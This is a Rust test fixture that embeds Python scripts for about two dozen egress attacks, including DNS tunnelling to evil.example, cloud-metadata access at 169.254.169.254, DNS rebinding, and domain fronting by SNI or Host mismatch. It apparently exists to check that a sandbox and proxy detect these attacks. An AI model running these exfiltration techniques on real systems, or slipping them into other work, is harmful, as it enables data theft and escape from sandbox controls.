//! Ways to carry octets out. Each sends its marker to the test's own Internet.

/// How the control of an attack is switched off.
pub(super) enum Off {
    /// The same program, without a sandbox.
    Sandbox,
    /// In a sandbox, behind a way out that checks nothing.
    Checks,
}

/// One attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Python after [`PRELUDE`]; `MARK` is what it tries to carry out. It ends with `print('done')`.
    pub(super) script: &'static str,
    pub(super) off: Off,
    /// The codes of the events that it must leave; none where no layer can see it.
    pub(super) events: &'static [&'static str],
}

pub(super) const PRELUDE: &str = r"
import os, socket, ssl, struct, urllib.request

PROXY = ('127.0.0.1', 8083)

def talk(s, data):
    try:
        s.settimeout(5)
        s.sendall(data)
        s.recv(4096)
    except OSError:
        pass
    s.close()

def direct(address, port, data):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    s = socket.socket(family)
    s.settimeout(5)
    try:
        s.connect((address, port))
    except OSError:
        return
    talk(s, data)

def connect(host, port, data, header=None):
    try:
        s = socket.create_connection(PROXY, 5)
    except OSError:
        return
    s.settimeout(5)
    s.sendall(f'CONNECT {host}:{port} HTTP/1.1\r\nHost: {header or host}:{port}\r\n\r\n'.encode())
    head = s.recv(4096)
    if head.startswith(b'HTTP/1.1 200'):
        talk(s, data)

def proxied(text):
    talk(socket.create_connection(PROXY, 5), text.encode())

def request(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:8083'}))
    return opener.open(url, timeout=5).read()

def get(url, host=None):
    host = host or url.split('/')[2]
    proxied(f'GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n')

def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

def question(name, kind=16):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, kind, 1)

def datagram(address, port, data):
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.sendto(data, (address, port))
        s.recv(4096)
    except OSError:
        pass
";

const fn attack(
    name: &'static str,
    script: &'static str,
    off: Off,
    events: &'static [&'static str],
) -> Attack {
    Attack {
        name,
        script,
        off,
        events,
    }
}

/// All of them.
pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "DNS tunnel through the resolver, UDP",
        "datagram('127.0.0.1', 53, question(f'{MARK}.evil.example'))\n\
         datagram('9.9.9.9', 53, question(f'{MARK}.evil.example'))\nprint('done')",
        Off::Sandbox,
        &["run/egress-host"],
    ),
    attack(
        "DNS tunnel through the resolver, TCP",
        "q = question(f'{MARK}.evil.example')\nq = struct.pack('>H', len(q)) + q\n\
         direct('127.0.0.1', 53, q)\ndirect('9.9.9.9', 53, q)\nprint('done')",
        Off::Sandbox,
        &["run/egress-host"],
    ),
    attack(
        "DNS tunnel to a name server of its own",
        "datagram('9.9.9.9', 53, question(f'{MARK}.evil.example'))\nprint('done')",
        Off::Sandbox,
        &[],
    ),
    attack(
        "DNS tunnel below a listed suffix",
        "datagram('127.0.0.1', 53, question(f'{MARK}.good.example', 1))\n\
         datagram('9.9.9.9', 53, question(f'{MARK}.good.example', 1))\nprint('done')",
        Off::Sandbox,
        &[],
    ),
    attack(
        "DNS tunnel in the name of CONNECT",
        "connect(f'{MARK}.evil.example', 443, b'x')\nprint('done')",
        Off::Checks,
        &["run/egress-host"],
    ),
    attack(
        "metadata by address, direct",
        "direct('169.254.169.254', 80, f'GET /{MARK} HTTP/1.0\\r\\n\\r\\n'.encode())\nprint('done')",
        Off::Sandbox,
        &["run/egress-address"],
    ),
    attack(
        "metadata by a listed name",
        "get(f'http://meta.good.example/{MARK}')\nprint('done')",
        Off::Checks,
        &["run/egress-forbidden"],
    ),
    attack(
        "metadata by a mapped address behind a name",
        "get(f'http://mapped.good.example/{MARK}')\nprint('done')",
        Off::Checks,
        &["run/egress-forbidden"],
    ),
    attack(
        "private server by a listed name",
        "get(f'http://private.good.example/{MARK}')\nprint('done')",
        Off::Checks,
        &["run/egress-forbidden"],
    ),
    attack(
        "loopback of the host by a listed name",
        "get(f'http://loopback.good.example/{MARK}')\nprint('done')",
        Off::Checks,
        &["run/egress-forbidden"],
    ),
    attack(
        "DNS rebinding: public first, then private",
        "get('http://rebind.good.example/first')\nget(f'http://rebind.good.example/{MARK}')\n\
         print('done')",
        Off::Checks,
        &["run/egress-forbidden"],
    ),
    attack(
        "domain fronting: SNI is not CONNECT",
        "connect('good.example', 443, hello(f'{MARK}.evil.example'))\nprint('done')",
        Off::Checks,
        &["run/egress-fronting"],
    ),
    attack(
        "domain fronting: SNI in fragments",
        "h = hello(f'{MARK}.evil.example')\nr = h[:3]\n\
         f = b''.join(r + b'\\0\\1' + h[i:i+1] for i in range(5, len(h)))\n\
         connect('good.example', 443, f + MARK.encode())\nprint('done')",
        Off::Checks,
        &["run/egress-fronting"],
    ),
    attack(
        "domain fronting: SNI is not the address meant",
        "a = socket.gethostbyname('good.example')\n\
         direct(a, 443, hello(f'{MARK}.evil.example'))\nprint('done')",
        Off::Checks,
        &["run/egress-fronting"],
    ),
    attack(
        "domain fronting: Host is not the address",
        "get(f'http://good.example/{MARK}', 'evil.example')\nprint('done')",
        Off::Checks,
        &["run/egress-host-header"],
    ),
    attack(
        "domain fronting: Host is not the address meant",
        "a = socket.gethostbyname('good.example')\n\
         direct(a, 80, f'GET /{MARK} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'.encode())\nprint('done')",
        Off::Checks,
        &["run/egress-host-header"],
    ),
    attack(
        "a host that is not listed",
        "connect('evil.example', 443, hello('evil.example') + MARK.encode())\nprint('done')",
        Off::Checks,
        &["run/egress-host"],
    ),
    attack(
        "an address in CONNECT",
        "connect('93.184.216.34', 443, hello('good.example') + MARK.encode())\n\
         direct('93.184.216.34', 443, hello('good.example') + MARK.encode())\nprint('done')",
        Off::Sandbox,
        &["run/egress-address"],
    ),
    attack(
        "an address, IPv6",
        "direct('2606:4700::1', 443, hello('good.example') + MARK.encode())\nprint('done')",
        Off::Sandbox,
        &["run/egress-address"],
    ),
    attack(
        "an address, IPv4-mapped",
        "direct('::ffff:93.184.216.34', 80, f'GET /{MARK} HTTP/1.0\\r\\n\\r\\n'.encode())\nprint('done')",
        Off::Sandbox,
        &["run/egress-address"],
    ),
    attack(
        "CONNECT to the port of mail",
        "connect('good.example', 25, MARK.encode())\nprint('done')",
        Off::Checks,
        &["run/egress-port"],
    ),
    attack(
        "another protocol at the port of TLS",
        "connect('good.example', 443, f'SSH-2.0-{MARK}\\r\\n'.encode())\nprint('done')",
        Off::Checks,
        &["run/egress-hello"],
    ),
    attack(
        "another port, direct",
        "direct('93.184.216.34', 25, MARK.encode())\nprint('done')",
        Off::Sandbox,
        &[],
    ),
    attack(
        "QUIC, direct",
        "datagram('93.184.216.34', 443, MARK.encode())\n\
         datagram('2606:4700::1', 443, MARK.encode())\nprint('done')",
        Off::Sandbox,
        &[],
    ),
];
